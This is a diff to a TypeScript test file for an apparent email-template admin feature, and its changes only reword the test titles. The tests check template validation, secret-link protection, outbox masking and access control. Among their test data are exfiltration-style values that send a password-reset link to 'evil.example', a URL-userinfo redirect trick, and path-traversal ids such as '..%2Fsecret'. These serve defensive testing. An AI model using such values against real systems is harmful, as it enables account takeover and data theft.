@@ -28,7 +28,7 @@ const store = (subject: string, text: string) =>
   );
 const forget = (email: string) => site.call(authEndpoints.forgotPassword, { body: { email } });
 
-test("every template is told with what may stand in it, and each example can be sent as it is", async () => {
+test("every template lists its placeholders, and each example can be sent unchanged", async () => {
   const { data } = await admin.call(templates);
   expect(data.length).toBeGreaterThanOrEqual(10);
   for (const { key: one, subject, text } of data) {
@@ -37,7 +37,7 @@ test("every template is told with what may stand in it, and each example can be 
   }
 });
 
-test("changed words are what goes out, and the product's own again after a reset", async () => {
+test("changed text is sent, and the default text again after a reset", async () => {
   const user = await site.asUser();
   const saved = await owner.call(saveTemplate, { params: { key }, body: { ...words, updatedAt: null } });
   expect(saved.data).toMatchObject({ ...words, changed: true });
@@ -49,7 +49,7 @@ test("changed words are what goes out, and the product's own again after a reset
   expect(back.data).toMatchObject({ changed: false, updatedAt: null });
 });
 
-test("words without what the mail is sent for, and values that there are not, are refused", async () => {
+test("refuses text without a required placeholder or with unknown ones", async () => {
   const body = { ...words, text: "Nothing to open", updatedAt: null };
   expect(await owner.request(saveTemplate, { params: { key }, body })).toMatchObject({
     status: 400,
@@ -67,7 +67,7 @@ test("words without what the mail is sent for, and values that there are not, ar
   expect((await owner.request(saveTemplate, { params: { key }, body: twoLines })).status).toBe(400);
 });
 
-test("an admin does not become superadmin through the words of a mail with a secret link: they are not theirs to change", async () => {
+test("an admin can't change the text of an email with a secret link, and so can't become superadmin", async () => {
   for (const one of ["new-password", "confirm-address"]) {
     const params = { key: one };
     const answers = [
@@ -111,7 +111,7 @@ const STOLEN = [
   ["subject", "http://localhost:4000)@evil.example/login", "{{link}}"],
 ] as const;
 
-test.each(STOLEN)("a secret link cannot be led away in the %s by %j, %j", async (path, subject, text) => {
+test.each(STOLEN)("a secret link can't be redirected in the %s by %j, %j", async (path, subject, text) => {
   const body = { subject, text, updatedAt: null };
   const { status, body: answer } = await owner.request(saveTemplate, { params: { key }, body });
   expect({ status, details: answer.details }).toMatchObject({ status: 400, details: [{ path }] });
@@ -119,14 +119,14 @@ test.each(STOLEN)("a secret link cannot be led away in the %s by %j, %j", async 
 });
 
 test.each(["(see http://localhost:4000/login).", "http://localhost:4000, or 'http://localhost:4000/a?b=c'!"])(
-  "a link to the site with punctuation around it is accepted: %s",
+  "accepts a link to the site surrounded by punctuation: %s",
   async (line) => {
     const body = { subject: "Reset", text: `{{link}}\n${line}` };
     expect((await owner.request(previewTemplate, { params: { key }, body })).status).toBe(200);
   },
 );
 
-test("words that an older version stored, with the secret link led away, are not sent", async () => {
+test("doesn't send text with a redirected secret link that an older version stored", async () => {
   const user = await site.asUser();
   await store("reset {{link}}", "https://evil.example/collect?u={{link}}");
   await forget(user.email);
@@ -136,7 +136,7 @@ test("words that an older version stored, with the secret link led away, are not
   await owner.call(resetTemplate, { params: { key } });
 });
 
-test("who saves over a version they did not see gets a conflict with it", async () => {
+test("saving over an unseen version is a conflict", async () => {
   const params = { key: "account-deleted" };
   const first = { subject: "Bye", text: "Bye {{product}}" };
   const { data } = await admin.call(saveTemplate, { params, body: { ...first, updatedAt: null } });
@@ -148,14 +148,14 @@ test("who saves over a version they did not see gets a conflict with it", async 
   expect((await admin.call(saveTemplate, { params, body: second })).data.subject).toBe("Farewell");
 });
 
-test("a test mail goes to the caller's own address", async () => {
+test("a test email goes to the caller's own address", async () => {
   const { to } = await owner.call(testTemplate, { params: { key }, body: words });
   expect(to).toBe(owner.email);
   const [mail] = await sentMails(site, owner.email, 1);
   expect(mail).toMatchObject({ subject: "[Test] Hello from Listwise" });
 });
 
-test("what a stranger wrote is never read as a place of a template", async () => {
+test("text from a stranger is never treated as a placeholder", async () => {
   const from = { name: "{{answer}}", email: "stranger@x.example", subject: "{{product}}" };
   await site.call(contactEndpoints.send, { body: { ...from, message: "Is this {{answer}} safe?" } });
   const { data } = await admin.call(contactEndpoints.messages);
@@ -167,7 +167,7 @@ test("what a stranger wrote is never read as a place of a template", async () =>
 });
 
 describe("the outbox", () => {
-  test("S15: an administrator reads mails, but not the secrets in their links; a superadmin does", async () => {
+  test("S15: an administrator can read emails; only a superadmin sees the secrets in their links", async () => {
     const user = await site.asUser();
     await forget(user.email);
     await sentMails(site, user.email, 1);
@@ -185,7 +185,7 @@ describe("the outbox", () => {
     expect(whole.text).toMatch(/token=[\w-]{20,}/);
   });
 
-  test("S75: a superadmin's stolen session reads no link of the outbox without a recent sign-in", async () => {
+  test("S75: a superadmin's stolen session can't read links in the outbox without a recent sign-in", async () => {
     const [user, superadmin] = [await site.asUser(), await site.asAdmin("superadmin")];
     await forget(user.email);
     await sentMails(site, user.email, 1);
@@ -201,7 +201,7 @@ describe("the outbox", () => {
     expect(answer).toMatchObject({ status: 403, body: { code: "RECENT_SIGN_IN_REQUIRED" } });
   });
 
-  test("a secret in a subject is masked in list, search and detail, and searching does not find it out", async () => {
+  test("a secret in a subject is masked in list, search and detail, and can't be found by searching", async () => {
     const secret = "k3yT0k3n".repeat(6);
     const at = "2026-01-01T00:00:00.000Z";
     const subject = `reset ${site.ctx.config.publicUrl}/reset-password?token=${secret}`;
@@ -220,7 +220,7 @@ describe("the outbox", () => {
     expect((await owner.call(outboxMail, { params })).data).toMatchObject({ subject, masked: false });
   });
 
-  test("a short code is masked as well: mails tell what is secret in them", async () => {
+  test("a short code is masked too, because emails list their secrets", async () => {
     const code = defineTemplate({
       key: "a-code",
       name: "Code",
@@ -237,7 +237,7 @@ describe("the outbox", () => {
     expect((await owner.call(outboxMail, { params })).data).toMatchObject({ text: "482913", masked: false });
   });
 
-  test.each(["..%2Fsecret", "nothing-there", "..", "a/../../x"])("%s is no mail", async (id) => {
+  test.each(["..%2Fsecret", "nothing-there", "..", "a/../../x"])("%s isn't an email", async (id) => {
     expect([400, 404]).toContain((await admin.request(outboxMail, { params: { id } })).status);
   });
 
